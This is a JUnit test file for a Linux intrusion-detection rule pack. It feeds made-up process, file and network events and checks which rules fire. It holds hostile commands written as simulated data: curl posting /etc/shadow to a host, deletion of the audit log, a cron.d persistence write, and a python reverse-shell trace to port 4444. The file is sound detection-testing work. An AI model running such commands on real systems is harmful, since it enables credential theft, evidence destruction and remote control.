package dev.whence.topology.rules;

import static org.assertj.core.api.Assertions.assertThat;

import dev.whence.graph.build.GraphBuilder;
import dev.whence.graph.build.GraphConfig;
import dev.whence.graph.detect.AlertUpdate;
import dev.whence.graph.detect.Detector;
import dev.whence.graph.detect.DetectorConfig;
import dev.whence.graph.detect.KeyValueMatchStore;
import dev.whence.graph.model.SystemEvent;
import dev.whence.graph.state.InMemoryGraphState;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The default pack of {@code rules/} on made-up traces: the behaviours the demo recording cannot
 * show (lateral movement needs two hosts) and the benign look-alikes the suppressions cover. The
 * recording itself is replayed by {@code tests/.../RecordedScenarioDetectionTest}.
 */
class DefaultPackTest {
  static RuleSet pack;

  final GraphBuilder builder = new GraphBuilder(new InMemoryGraphState(), GraphConfig.defaults());
  Detector detector;
  final List<AlertUpdate> alerts = new ArrayList<>();

  @BeforeAll
  static void load() throws Exception {
    pack = new RuleLoader().loadDirectory(Path.of("..", "rules"));
  }

  private Set<String> feed(SystemEvent... events) {
    if (detector == null) {
      detector =
          new Detector(pack.rules(), KeyValueMatchStore.inMemory(), DetectorConfig.defaults());
    }
    Set<String> fired = new TreeSet<>();
    for (SystemEvent e : events) {
      for (AlertUpdate a : detector.apply(e, builder.apply(e))) {
        alerts.add(a);
        fired.add(a.ruleId());
      }
    }
    return fired;
  }

  @Test
  void everyRuleHasTechniquesAndTheIdsAreUnique() {
    assertThat(pack.rules()).hasSizeGreaterThanOrEqualTo(20);
    pack.rules().forEach(r -> assertThat(r.techniques()).as(r.id()).isNotEmpty());
    assertThat(pack.fingerprint()).hasSize(16);
  }

  @Test
  void lateralMovementFollowsAFlowBetweenTwoHosts() {
    PackEvents a = new PackEvents("host-a");
    PackEvents b = new PackEvents("host-b");
    feed(a.fork(1, 50), a.exec(50, "/usr/bin/ssh", "ssh", "10.0.0.2"));
    feed(a.connect(50, 3, "10.0.0.1", 40001, "10.0.0.2", 22));
    b.time = a.time;
    feed(b.fork(1, 60), b.accept(60, "10.0.0.2", 22, "10.0.0.1", 40001), b.fork(60, 61));
    assertThat(feed(b.exec(61, "/usr/bin/id", "id"))).contains("lateral-movement");
  }

  @Test
  void aLocalConnectionIsNoLateralMovement() {
    PackEvents a = new PackEvents("host-a");
    feed(a.fork(1, 50), a.connect(50, 3, "10.0.0.1", 40001, "10.0.0.2", 22));
    feed(a.fork(1, 60), a.accept(60, "10.0.0.2", 22, "10.0.0.1", 40001), a.fork(60, 61));
    assertThat(feed(a.exec(61, "/usr/bin/id", "id"))).doesNotContain("lateral-movement");
  }

  @Test
  void credentialsReadThenSentOut() {
    PackEvents t = new PackEvents("h");
    feed(t.fork(1, 70), t.exec(70, "/usr/bin/curl", "curl", "-d", "@/etc/shadow", "http://x"));
    feed(t.read(70, "/etc/shadow"));
    assertThat(feed(t.connect(70, 5, "10.0.0.9", 40000, "203.0.113.5", 443)))
        .contains("credential-read-then-send");
  }

  @Test
  void credentialsReadByALocalToolAreNoExfiltration() {
    PackEvents t = new PackEvents("h");
    feed(
        t.fork(1, 70), t.exec(70, "/usr/bin/cat", "cat", "/etc/shadow"), t.read(70, "/etc/shadow"));
    assertThat(feed(t.connect(70, 5, "127.0.0.1", 40000, "127.0.0.1", 53))).isEmpty();
  }

  @Test
  void becomingRootWithoutASetuidHelper() {
    PackEvents t = new PackEvents("h");
    feed(t.fork(1, 80), t.setuid(80, 1000), t.exec(80, "/home/u/exploit", "exploit"));
    assertThat(feed(t.setuid(80, 0))).contains("privilege-gain-to-root");
  }

  @Test
  void sudoSwitchingUsersIsBenign() {
    PackEvents t = new PackEvents("h");
    feed(t.fork(1, 80), t.setuid(80, 1000), t.exec(80, "/usr/bin/sudo", "sudo", "id"));
    assertThat(feed(t.setuid(80, 0))).isEmpty();
  }

  @Test
  void auditLogTamperingAndItsRotation() {
    PackEvents t = new PackEvents("h");
    feed(t.fork(1, 90), t.exec(90, "/usr/bin/rm", "rm", "/var/log/audit/audit.log"));
    assertThat(feed(t.unlink(90, "/var/log/audit/audit.log")))
        .contains("audit-log-tamper", "log-deletion");
    feed(t.fork(1, 91), t.exec(91, "/usr/sbin/logrotate", "logrotate", "/etc/logrotate.conf"));
    assertThat(feed(t.unlink(91, "/var/log/syslog.7.gz"))).isEmpty();
  }

  @Test
  void sshdSpawningALoginShellIsBenign() {
    PackEvents t = new PackEvents("h");
    feed(t.fork(1, 100), t.exec(100, "/usr/sbin/sshd", "sshd", "-D"));
    feed(t.accept(100, "10.0.0.2", 22, "10.0.0.7", 51000), t.fork(100, 101), t.fork(101, 102));
    assertThat(feed(t.exec(102, "/bin/bash", "-bash"))).isEmpty();
  }

  @Test
  void aWebServerSpawningAShellIsNot() {
    PackEvents t = new PackEvents("h");
    feed(t.fork(1, 100), t.exec(100, "/usr/sbin/nginx", "nginx"));
    feed(t.accept(100, "10.0.0.2", 80, "10.0.0.7", 51000), t.fork(100, 101));
    assertThat(feed(t.exec(101, "/bin/sh", "sh", "-c", "id"))).contains("service-spawns-shell");
  }

  @Test
  void crontabEditingIsBenignButAnEchoIntoCronDIsNot() {
    PackEvents t = new PackEvents("h");
    feed(t.fork(1, 110), t.exec(110, "/usr/bin/crontab", "crontab", "-e"));
    assertThat(feed(t.write(110, "/var/spool/cron/crontabs/user"))).isEmpty();
    feed(t.fork(1, 111), t.exec(111, "/usr/bin/tee", "tee", "/etc/cron.d/job"));
    assertThat(feed(t.write(111, "/etc/cron.d/job"))).containsExactly("persistence-cron");
  }

  @Test
  void packageMaintainerScriptsAreBenign() {
    PackEvents t = new PackEvents("h");
    feed(t.fork(1, 120), t.exec(120, "/usr/bin/apt-get", "apt-get", "install", "x"));
    feed(t.connect(120, 5, "10.0.0.9", 40000, "151.101.2.132", 80));
    feed(t.write(120, "/var/cache/apt/archives/x.deb"), t.fork(120, 121));
    feed(
        t.exec(121, "/usr/bin/dpkg", "dpkg", "-i", "/var/cache/apt/archives/x.deb"),
        t.fork(121, 122));
    feed(t.exec(122, "/var/lib/dpkg/info/x.postinst", "x.postinst", "configure"));
    feed(t.write(122, "/etc/systemd/system/x.service"), t.write(122, "/etc/cron.d/x"));
    assertThat(feed(t.write(121, "/usr/bin/x"))).isEmpty();
    assertThat(alerts).isEmpty();
  }

  @Test
  void aReverseShellFromAScriptingLanguage() {
    PackEvents t = new PackEvents("h");
    feed(t.fork(1, 130), t.exec(130, "/usr/bin/python3", "python3", "-c", "..."));
    feed(
        t.connect(130, 3, "10.0.0.9", 40000, "198.51.100.4", 4444),
        t.dup(130, 3, 0),
        t.dup(130, 3, 1));
    assertThat(feed(t.exec(130, "/bin/sh", "sh", "-i"))).contains("reverse-shell");
  }
}
